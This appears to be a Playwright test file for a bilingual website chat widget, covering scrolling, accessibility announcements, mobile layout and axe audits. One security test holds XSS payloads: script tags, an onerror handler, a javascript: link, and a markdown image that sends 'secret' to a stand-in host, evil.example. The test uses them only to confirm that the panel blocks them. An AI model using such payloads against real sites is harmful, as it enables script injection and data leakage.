import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import type { Locator, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { hydrated, launchBrowser, phone } from "./browser.ts";
import { chatOn } from "./chat-page.ts";

const { open } = launchBrowser();

async function chatAt(path: string, options?: Parameters<typeof open>[1]) {
	const page = await open(path, options);
	await hydrated(page);
	return { page, ...(await chatOn(page)) };
}

describe("reading", () => {
	const long = (from: number, count: number) =>
		Array.from({ length: count }, (_, index) => `Párrafo ${from + index} de una respuesta larga.`).join("\n\n");

	const fromEnd = (log: Locator) =>
		log.evaluate((box) => Math.round(box.scrollHeight - box.clientHeight - box.scrollTop));

	it("keeps the question in view while a long answer arrives, and goes to its end when asked", async () => {
		const { log, panel, ...chat } = await chatAt("/redes");
		await chat.open();
		await chat.ask("Cuénteme");
		await chat.stop.waitFor();
		const more = panel.getByRole("button", { name: "Seguir leyendo" });
		await chat.say(`${long(1, 2)}\n\n`);
		await chat.answers.getByText("Párrafo 2").waitFor();
		await expect.poll(() => fromEnd(log)).toBeLessThan(3);
		expect(await more.count()).toBe(0);

		await chat.say(`${long(3, 40)}\n\n`);
		await chat.answers.getByText("Párrafo 42").waitFor();
		await more.waitFor();
		const question = log.getByText("Cuénteme");
		const fromTop = async () => ((await question.boundingBox())?.y ?? 0) - ((await log.boundingBox())?.y ?? 0);
		await expect.poll(fromTop).toBeLessThan(40);
		expect(await fromTop()).toBeGreaterThan(0);

		await more.click();
		await expect.poll(() => fromEnd(log)).toBeLessThan(3);
		await chat.say("\n\nFin.");
		await chat.answers.getByText("Fin.").waitFor();
		await expect.poll(() => fromEnd(log)).toBeLessThan(3);
		expect(await more.count()).toBe(0);
	});

	it.each([-200, 200])("moves nothing under the eyes of a reader who scrolled by %i", async (by) => {
		const { log, ...chat } = await chatAt("/redes");
		await chat.open();
		await chat.ask("Cuénteme");
		await chat.stop.waitFor();
		await chat.say(`${long(1, 40)}\n\n`);
		await chat.answers.getByText("Párrafo 40").waitFor();
		const scrollTop = () => log.evaluate((box) => box.scrollTop);
		const first = await scrollTop();
		await log.hover();
		await log.page().mouse.wheel(0, by);
		await expect.poll(scrollTop).toBe(first + by);
		await chat.say(long(41, 40));
		await chat.answers.getByText("Párrafo 80").waitFor();
		expect(await scrollTop()).toBe(first + by);
	});

	it("announces a finished answer once, as it is shown", async () => {
		const { page, log, panel, ...chat } = await chatAt("/redes");
		await chat.open();
		expect(await log.getAttribute("aria-live")).toBe("off");
		await page.evaluate(() => {
			const told: string[] = [];
			Object.assign(window, { told });
			const regions = '[role="status"], [role="alert"], [aria-live="polite"], [aria-live="assertive"]';
			new MutationObserver((changes) => {
				for (const { target } of changes) {
					const element = target instanceof Element ? target : target.parentElement;
					const region = element?.closest(regions);
					if (region?.textContent) told.push(region.textContent);
				}
			}).observe(document.body, { childList: true, characterData: true, subtree: true });
		});
		await chat.ask("¿Qué llevo?");
		await chat.stop.waitFor();
		for (const word of ["Traiga ", "los ", "**contratos**", ":\n\n", "- uno\n", "- dos"]) {
			await chat.say(word);
			await page.waitForTimeout(60);
		}
		await chat.end();
		await chat.stop.waitFor({ state: "detached" });
		const told = () =>
			page.evaluate(() => Reflect.get(window, "told").filter((text: string) => text.includes("Traiga")));
		await expect.poll(told).toEqual(["El asistente respondió: Traiga los contratos: uno dos"]);
		await page.waitForTimeout(300);
		expect(await told()).toHaveLength(1);
		expect(await panel.getByRole("status").filter({ hasText: "Traiga" }).count()).toBe(1);
	});

	it("draws no HTML, fetches no picture and follows no script that an answer or a visitor brings", async () => {
		const { page, panel, ...chat } = await chatAt("/redes");
		const requests: string[] = [];
		page.on("request", (request) => requests.push(request.url()));
		page.on("dialog", () => expect.unreachable("a script ran"));
		await chat.open();
		const attack = [
			"<img src=x onerror=alert(1)><script>alert(1)</script>",
			"![x](https://evil.example/pixel.gif?q=secret) [x](javascript:alert(1)) <https://evil.example>",
			"[contacto](/contacto)",
		].join("\n\n");
		await chat.exchange(attack, attack);
		await page.waitForTimeout(200);
		expect(requests.filter((url) => url.includes("evil.example") || url.endsWith("/x"))).toEqual([]);
		expect(await panel.getByRole("log").locator("img, script, iframe").count()).toBe(0);
		expect(
			await chat.answers.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href"))),
		).toEqual(["/contacto"]);
	});
});

describe("on a small screen", () => {
	const still = { ...phone, reducedMotion: "reduce" } as const;

	/** Where something is, in whole pixels. */
	async function boxOf(part: Locator) {
		const box = await part.boundingBox();
		if (!box) throw new Error("It is not on screen");
		return { x: Math.round(box.x), y: Math.round(box.y), width: Math.round(box.width), height: Math.round(box.height) };
	}

	it("covers the page and gets out of the way of a link", async () => {
		const { page, panel, ...chat } = await chatAt("/redes", still);
		await chat.open();
		expect(await boxOf(panel)).toEqual({ x: 0, y: 0, width: 390, height: 844 });
		expect(await panel.getAttribute("aria-modal")).toBe("true");
		expect(await page.locator("main").evaluate((main) => main.hasAttribute("inert"))).toBe(true);
		await chat.exchange("¿Dónde?", "En [Contacto](/contacto).");
		await chat.answers.getByRole("link").click();
		await page.waitForURL("**/contacto");
		await panel.waitFor({ state: "hidden" });
		expect(await page.locator("main").evaluate((main) => main.hasAttribute("inert"))).toBe(false);
		expect(await page.evaluate(() => document.documentElement.style.overflow)).toBe("");
	});

	it("keeps the field above the on-screen keyboard", async () => {
		const { page, field, panel, ...chat } = await chatAt("/redes", still);
		await chat.open();
		await page.evaluate(() => {
			const visible = window.visualViewport;
			if (!visible) throw new Error("no visual viewport");
			Object.defineProperty(visible, "height", { value: 420, configurable: true });
			Object.defineProperty(visible, "offsetTop", { value: 60, configurable: true });
			visible.dispatchEvent(new Event("resize"));
		});
		expect(await boxOf(panel)).toMatchObject({ y: 60, height: 420 });
		const { y, height } = await boxOf(field);
		expect(y + height).toBeLessThanOrEqual(480);
	});

	/** What of the panel would have to be scrolled sideways. */
	const tooWide = (panel: Locator) =>
		panel.evaluate((dialog) =>
			[dialog, ...dialog.querySelectorAll("*")]
				.filter((each) => !each.closest(".sr-only, svg") && each.clientWidth > 0)
				.filter((each) => each.scrollWidth > each.clientWidth + 1)
				.map((each) => `${each.tagName}.${each.className}`),
		);

	const sizes = [
		["320 px", { width: 320, height: 568 }, ""],
		["200 % text", { width: 1280, height: 800 }, "200%"],
		["a phone at 200 % text", { width: 390, height: 844 }, "200%"],
		["320 px at 200 % text", { width: 320, height: 640 }, "200%"],
	] as const;

	it.each(sizes)("works at %s, in both languages", { tags: ["weekly"] }, async (_, viewport, fontSize) => {
		for (const path of ["/redes", "/en/social"]) {
			const { page, panel, field, log, ...chat } = await chatAt(path, { viewport, reducedMotion: "reduce" });
			await page.evaluate((size) => {
				document.documentElement.style.fontSize = size;
			}, fontSize);
			// A page that is itself too wide at this size must not hide what the panel does.
			await chat.launcher.evaluate((button: HTMLElement) => button.click());
			await panel.waitFor();
			await chat.exchange("Pregunta-muy-larga-sin-espacios-".repeat(5), "Respuesta https://example.com/".repeat(8));
			expect(await tooWide(panel)).toEqual([]);
			for (const part of [field, chat.send, panel.getByRole("button", { name: /Cerrar el|Close the/ })]) {
				const { x, y, width, height } = await boxOf(part);
				expect(x).toBeGreaterThanOrEqual(0);
				expect(x + width).toBeLessThanOrEqual(viewport.width);
				expect(y + height).toBeLessThanOrEqual(viewport.height);
			}
			expect((await boxOf(log)).height).toBeGreaterThan(100);
			await panel.getByRole("button", { name: /Borrar la|Erase the/ }).click();
			expect(await tooWide(panel)).toEqual([]);
			const { y, height } = await boxOf(panel.getByRole("button", { name: /Conservar|Keep/ }));
			expect(y + height).toBeLessThanOrEqual(viewport.height);
		}
	});
});

describe("what axe finds in the panel", () => {
	const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

	async function violations(page: Page): Promise<string[]> {
		return page.evaluate(async () => {
			const { violations } = await Reflect.get(window, "axe").run("dialog", {
				runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
			});
			return violations.map(
				({ id, nodes }: { id: string; nodes: { html: string }[] }) =>
					`${id}: ${nodes.map(({ html }) => html).join(" | ")}`,
			);
		});
	}

	it.each([
		["a desk", { viewport: { width: 1280, height: 800 } }],
		["a phone", phone],
	])("on %s is nothing, in any state", async (_, size) => {
		const { page, panel, retry, ...chat } = await chatAt("/redes", { ...size, reducedMotion: "reduce" });
		await page.evaluate(axe);
		await chat.open();
		expect(await violations(page)).toEqual([]);
		await chat.ask("Hola");
		await chat.stop.waitFor();
		await chat.say("Buenos **días**, vea [Contacto](/contacto) y\n\n- [State Bar](https://www.texasbar.com/)\n- dos");
		await chat.answers.getByText("dos").waitFor();
		expect(await violations(page)).toEqual([]);
		await chat.end('{"error":{}}');
		await retry.waitFor();
		expect(await violations(page)).toEqual([]);
		await panel.getByRole("button", { name: "Borrar la conversación" }).click();
		expect(await violations(page)).toEqual([]);
	});
});
